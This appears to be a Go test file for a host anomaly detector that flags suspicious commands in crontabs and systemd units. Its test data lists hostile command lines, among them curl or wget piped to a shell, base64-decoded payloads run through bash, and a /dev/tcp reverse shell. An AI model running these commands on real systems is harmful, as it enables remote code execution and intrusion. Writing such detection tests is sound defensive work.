package anomaly

import (
	"strings"
	"testing"
	"time"
)

func TestOddCommand(t *testing.T) {
	for _, odd := range []string{
		"curl -fsSL http://203.0.113.1/x | sh", "wget -qO- http://x/y|bash", "curl http://x | sudo /bin/bash -s", "sh -c \"$(curl -fsSL http://x)\"",
		"bash <(curl -s http://x)", "eval `wget -qO- http://x`", "echo aGk= | base64 -d | sh", "echo aGk= | base64 --decode | gunzip | bash",
		"bash -i >& /dev/tcp/203.0.113.1/443 0>&1", "/tmp/x", "cd / && /var/tmp/.x/run", "sh /dev/shm/a", "nohup /tmp/a &", "python3 /tmp/a.py", "nice -n 5 /tmp/a",
		"-/tmp/x --flag", "curl http://x | python3 -", "/bin/sh -c '/dev/shm/x'", "wget -qO- x | perl", "if true; then /tmp/x; fi", "bash -c \"/tmp/x\"",
	} {
		if OddCommand(odd) == "" {
			t.Errorf("%q is taken for honest", odd)
		}
	}
	for _, honest := range []string{
		"cd / && run-parts --report /etc/cron.hourly", "test -x /usr/sbin/anacron || ( cd / && run-parts --report /etc/cron.daily )",
		"find /tmp -mtime +7 -delete", "rm -rf /tmp/cache", "[ -x /usr/lib/php/sessionclean ] && /usr/lib/php/sessionclean", "tar czf /tmp/backup.tgz /etc",
		"curl -s http://localhost/health > /dev/null", "wget -q http://x -O /tmp/x", "/usr/bin/sh /etc/x | tee /tmp/log", "curl x | shasum", "mysqldump a | gzip > /tmp/a.gz",
		"echo x | base64 -d > /etc/x", "ls | grep sh", "for f in /tmp/*; do echo $f; done", "cat /dev/tcp", "cp x /tmp/y && chmod 600 /tmp/y",
		"export TMPDIR=/tmp/x", "PATH=/tmp/x:$PATH", "curl https://x/y.json | jq .", "command -v debian-sa1 > /dev/null && debian-sa1 1 1", "ssh host /tmp/x.sh",
	} {
		if why := OddCommand(honest); why != "" {
			t.Errorf("%q %s", honest, why)
		}
	}
}

func TestCommands(t *testing.T) {
	starts := []Start{
		{Type: "crontab", Path: "/etc/crontab", Line: 1, Command: "curl http://x | sh"},
		{Type: "unit", Path: "/etc/systemd/system/a.service", Line: 3, Command: "-/opt/.hidden/x", Unit: true},
		{Type: "unit", Path: "/etc/systemd/system/b.service", Line: 3, Command: "/srv/app/.venv/bin/gunicorn app", Unit: true},
		{Type: "unit", Path: "/etc/systemd/system/c.service", Line: 3, Command: "!!/dev/shm/x", Unit: true},
		{Type: "cron-script", Path: "/etc/cron.daily/x", Command: "/tmp/x"}, // the name of the file itself
	}
	var got []string
	for _, f := range Commands(starts) {
		got = append(got, f.ID+" "+f.Evidence["path"])
	}
	want := "cron-odd-command /etc/crontab,unit-odd-exec /etc/systemd/system/a.service,unit-odd-exec /etc/systemd/system/c.service"
	if strings.Join(got, ",") != want {
		t.Errorf("got %q, want %q", got, want)
	}
}

// One user's units hide neither those of another nor what else is odd, and what is not told one by one is counted.
func TestCommandsOfOneOwnerDoNotHideOthers(t *testing.T) {
	var starts []Start
	for f := range maxOddFiles + 7 {
		for line := range maxOddLines + 3 {
			starts = append(starts, Start{Type: "user-unit", Path: "/home/eve/u" + strings.Repeat("x", f), Line: line + 1, Command: "/tmp/decoy", Unit: true, Owner: 1000})
		}
	}
	starts = append(starts, Start{Type: "crontab", Path: "/etc/crontab", Line: 1, Command: "/tmp/real"})
	got := Commands(starts)
	if want := maxOddFiles*maxOddLines + 1; len(got) != want || got[want-1].Evidence["path"] != "/etc/crontab" {
		t.Fatalf("%d findings, want %d with /etc/crontab as the last", len(got), want)
	}
	if last := got[maxOddLines-1].Text; !strings.HasSuffix(last, "and 3 more such lines in this file") {
		t.Errorf("the last of a file says %q", last)
	}
	if last := got[(maxOddFiles-1)*maxOddLines].Text; !strings.HasSuffix(last, "and 7 more files of this owner with such lines") {
		t.Errorf("the last file of the owner says %q", last)
	}
}

func TestChangedDecoysOfOneOwnerDoNotHideAnothers(t *testing.T) {
	now := time.Date(2025, 3, 20, 0, 0, 0, 0, time.UTC)
	var starts []Start
	for i := range maxChanged + 5 {
		starts = append(starts, Start{Type: "user-unit", Path: strings.Repeat("x", i+1), Newest: now, Owner: 1000})
	}
	starts = append(starts, Start{Type: "user-unit", Path: "/home/bob/u", Newest: now, Owner: 1001})
	got := Changed(starts, now.AddDate(0, 0, -14))
	if len(got) != maxChanged+1 || got[maxChanged].Evidence["path"] != "/home/bob/u" {
		t.Fatalf("%d findings: %+v", len(got), got)
	}
}

func TestChanged(t *testing.T) {
	now := time.Date(2025, 3, 20, 0, 0, 0, 0, time.UTC)
	old, young := now.AddDate(0, 0, -60), now.AddDate(0, 0, -1)
	starts := []Start{
		{Type: "unit", Path: "/a", Newest: young}, {Type: "unit", Path: "/a", Newest: young}, {Type: "unit", Path: "/b", Newest: old},
		{Type: "unit", Path: "/c", Newest: young, Known: true}, {Type: "preload", Path: "/d", Newest: young, Foreign: true},
	}
	for i := range maxChanged + 5 {
		starts = append(starts, Start{Type: "udev", Path: strings.Repeat("x", i+1), Newest: young})
	}
	got := Changed(starts, now.AddDate(0, 0, -14))
	if len(got) != 2+maxChanged || got[0].Row != 0 || got[0].Severity != Low || got[1].Severity != Medium || got[1].Row != 4 {
		t.Fatalf("%d findings: %+v", len(got), got[:2])
	}
	if last := got[len(got)-1].Text; !strings.Contains(last, "and 5 more files") {
		t.Errorf("the last says %q", last)
	}
}

func FuzzOddCommand(f *testing.F) {
	f.Add("curl x | sh")
	f.Fuzz(func(t *testing.T, command string) {
		if len(command) < maxCommand/2 && OddCommand(command) != "" && OddCommand(command+" ; curl http://x | sh") == "" {
			t.Errorf("%q is odd, and no longer with more", command)
		}
	})
}
